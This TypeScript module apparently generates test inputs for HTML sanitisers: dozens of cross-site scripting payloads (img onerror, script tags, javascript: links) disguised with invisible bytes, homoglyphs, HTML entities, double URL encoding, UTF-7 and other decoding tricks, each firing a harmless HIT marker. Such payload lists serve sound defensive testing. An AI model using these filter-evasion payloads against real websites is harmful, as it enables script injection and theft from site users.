import { HIT } from './marks.ts';

const IMAGE = `<img src=x onerror=${HIT}>`;

/** Bytes and letters that one reader drops, folds or decodes and another does not. */
const BETWEEN = [
  '\x00',
  '\x0b',
  '\x0c',
  '\x0d',
  '\xa0',
  '\xad',
  '\u1680',
  '\u180e',
  '\u2003',
  '\u200b',
  '\u205f',
  '\u3000',
  '\u2028',
  '\ufeff',
  '\ufffd',
  '\u0338',
];

const AROUND: readonly ((letter: string) => string)[] = [
  (letter) => `<${letter}img src=x onerror=${HIT}>`,
  (letter) => `<img${letter}src=x${letter}onerror=${HIT}>`,
  (letter) => `<img src=x on${letter}error=${HIT}>`,
  (letter) => `<scr${letter}ipt>${HIT}</scr${letter}ipt>`,
  (letter) => `<a href="java${letter}script:${HIT}">x</a>`,
  (letter) => `<a href="${letter}javascript:${HIT}">x</a>`,
];

const OTHERS: readonly string[] = [
  '+ADw-img src=x onerror=hit()+AD4-',
  '\u00c0\u00bcimg src=x onerror=hit()\u00c0\u00be',
  '\ud83d<img src=x onerror=hit()>\ude00',
  `\uff1cimg src=x onerror=${HIT}\uff1e`,
  `\u2039img src=x onerror=${HIT}\u203a`,
  `<ſcript>${HIT}</ſcript>`,
  `<ıframe onload=${HIT}>`,
  `<img src=x onerror\u212a=${HIT}>`,
  `&lt;img src=x onerror=${HIT}&gt;`,
  `&ltimg src=x onerror=${HIT}&gt`,
  `&#60;img src=x onerror=${HIT}&#62;`,
  `&#x3cimg src=x onerror=${HIT}&#x3e`,
  `&amp;lt;img src=x onerror=${HIT}&amp;gt;`,
  `&#0000060img src=x onerror=${HIT}>`,
  `&LT;script&GT;${HIT}&LT;/script&GT;`,
  `\\u003cimg src=x onerror=${HIT}\\u003e`,
  `\\x3cimg src=x onerror=${HIT}\\x3e`,
  `%253Cimg%2520src%253Dx%2520onerror%253D${HIT}%253E`,
  `%c0%bcimg src=x onerror=${HIT}%c0%be`,
  `\x1b$B<\x1b(Bimg src=x onerror=${HIT}>`,
  `~{<~}img src=x onerror=${HIT}>`,
  `<IMG SRC=x ONERROR=${HIT}>`.normalize('NFKD'),
  `<img src=x onerror=&#104;&#105;&#116;&#40;&#41;>`,
  `<img src=x onerror=\\u{68}it()>`,
  `<img src=x onerror="\t\n\r\f ${HIT}">`,
  IMAGE.replaceAll(' ', '/'),
  IMAGE.replaceAll(' ', '\u3000'),
  [...IMAGE].join('\x00'),
];

/** Payloads behind encodings that are decoded once too often, or by a reader with another table. */
export function writeOddEncodings(): string[] {
  return [...BETWEEN.flatMap((letter) => AROUND.map((around) => around(letter))), ...OTHERS];
}
